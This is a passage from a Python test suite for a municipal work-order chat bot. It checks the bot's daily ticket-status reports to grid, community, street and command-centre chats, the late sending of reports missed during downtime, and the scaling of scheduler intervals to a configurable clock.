    c = await file(rt, "wenmiao-01", place="文庙广场")
    await file(rt, triage=True)
    at(rt, FILED + 48 * H)
    await lights.sweep(rt)
    at(rt, dt.datetime(2026, 4, 3, 15, 0, tzinfo=SH))
    worker = await Staff.get(user_id=WORKER_NHJ1_01)
    await moves.resolve(rt, a, worker, "已处理", [])
    await moves.accept(rt, c, await Staff.get(user_id=100401))

    at(rt, dt.datetime(2026, 4, 4, 8, 29, tzinfo=SH))
    assert await daily.daily_report(rt) == 0  # not yet
    at(rt, dt.datetime(2026, 4, 4, 8, 30, tzinfo=SH))
    sent = await daily.daily_report(rt)
    assert await daily.daily_report(rt) == 0  # once per day, whoever asks
    assert await ScheduledRun.exists(key="daily_report:2026-04-04")
    texts_by_chat = {row.chat_id: row.text for row in await Outbox.filter(text__startswith="📊")}
    assert sent == len(texts_by_chat)
    grid1 = texts_by_chat[GRID_NHJ1_01_CHAT]
    assert "【南海街一社区第一网格】4月3日工单日报" in grid1 and "受理 0 件，办结 1 件" in grid1
    assert "目前未办结 0 件" in grid1
    grid2 = texts_by_chat[GRID_NHJ1_02_CHAT]
    assert "目前未办结 1 件：黄灯 0，红灯 1，超期 0" in grid2
    community = texts_by_chat[COMMUNITY_NHJ1_CHAT]  # its grids summed
    assert "办结 1 件" in community and "目前未办结 1 件：黄灯 0，红灯 1" in community
    assert "目前未办结 2 件：黄灯 0，红灯 2" in texts_by_chat[STREET_MIAOQIAN_CHAT]  # 文庙's was accepted red
    command = texts_by_chat[COMMAND_CHAT]
    streets = await Unit.filter(level=Level.STREET).values_list("name", flat=True)
    assert all(f"\n{name}：" in command for name in streets)  # a line per street
    assert "\n庙前街道：0｜1｜2｜0｜2｜0" in command
    assert "\n区指挥中心（含待分派）：0｜0｜1｜0｜1｜0" in command and "\n合计：0｜1｜3｜0｜3｜0" in command
    assert texts_by_chat.keys() >= {GRID_NHJ1_01_CHAT, GRID_NHJ1_02_CHAT, COMMAND_CHAT}
    assert -1001000000405 not in texts_by_chat  # 文庙社区第二网格: nothing at all, no message
    # The next morning's report is another day's.
    at(rt, dt.datetime(2026, 4, 5, 9, 0, tzinfo=SH))
    assert await daily.daily_report(rt) > 0


async def test_daily_reports_missed_while_down_come_at_the_next_tick_once_each_for_their_day(rt):
    """The first tick ever (07:00) owes nothing from before; a bot down over several 08:30s sends
    each missed report when it is back, oldest first, saying it is late; a month's outage sends
    the last week's, not thirty."""
    async def sent_dates() -> list[str]:
        rows = await Outbox.filter(chat_id=COMMAND_CHAT, text__contains="工单日报").order_by("id")
        return [re.search(r"(\d+月\d+日)工单日报", r.text)[1] for r in rows]

    at(rt, dt.datetime(2026, 4, 2, 7, 0, tzinfo=SH))
    await file(rt)
    assert await daily.daily_report(rt) == 0  # 04-01's report was never this bot's to send
    at(rt, dt.datetime(2026, 4, 2, 8, 30, tzinfo=SH))
    assert await daily.daily_report(rt) > 0
    at(rt, dt.datetime(2026, 4, 5, 7, 0, tzinfo=SH))  # down over 04-03 and 04-04 08:30
    assert await daily.daily_report(rt) > 0
    assert await daily.daily_report(rt) == 0
    assert await sent_dates() == ["4月1日", "4月2日", "4月3日"]
    late = await Outbox.filter(chat_id=COMMAND_CHAT, text__contains="4月3日工单日报").first()
    assert "补发：原定4月4日 08:30" in late.text
    on_time = await Outbox.filter(chat_id=COMMAND_CHAT, text__contains="4月1日工单日报").first()
    assert "补发" not in on_time.text

    at(rt, dt.datetime(2026, 5, 5, 9, 0, tzinfo=SH))  # a month away
    await daily.daily_report(rt)
    dates = await sent_dates()
    assert dates[3:] == [f"4月{d}日" for d in range(28, 31)] + [f"5月{d}日" for d in range(1, 5)]


async def test_daily_report_can_be_switched_off(rt, tmp_path):
    rt.sla = policy_with(tmp_path, "daily_report_at: null\n")
    await file(rt)
    at(rt, FILED + 30 * H)
    assert await daily.daily_report(rt) == 0


# --- the scheduler --------------------------------------------------------------------------

def test_the_sweep_runs_every_minute_of_the_bots_clock():
    from bot import handlers
    from bot.clock import Clock
    from bot.scheduler.jobs import build_scheduler, tick_seconds

    def runtime(scale):
        return Runtime.from_settings(Settings(), clock=Clock(scale=scale))

    assert tick_seconds(runtime(1)) == 60 and tick_seconds(runtime(2)) == 30
    assert tick_seconds(runtime(60)) == 1 and tick_seconds(runtime(3600)) == 1
    scheduler = build_scheduler(runtime(120), handlers.registry().jobs)
    jobs = {job.id: job for job in scheduler.get_jobs()}
    assert {"sla_sweep", "daily_report", "close_unrated"} <= set(jobs)
    assert jobs["sla_sweep"].trigger.interval == dt.timedelta(seconds=1)
    assert jobs["close_unrated"].trigger.interval == dt.timedelta(seconds=5)


def test_demo_takes_a_time_scale(monkeypatch, capsys):
    from bot import cli
    from bot.sandbox import demo

    seen = {}

    async def fake_run_demo(**kw):
        seen.update(kw)
        return 0

    monkeypatch.setattr(demo, "run_demo", fake_run_demo)
    assert cli.main(["demo", "--no-chat", "--time-scale", "3600"]) == 0
    assert seen["time_scale"] == 3600
    assert cli.main(["demo"]) == 0 and seen["time_scale"] == 1
    with pytest.raises(SystemExit):
        cli.main(["demo", "--time-scale", "0"])
    assert "between 1 and 1000000" in capsys.readouterr().err
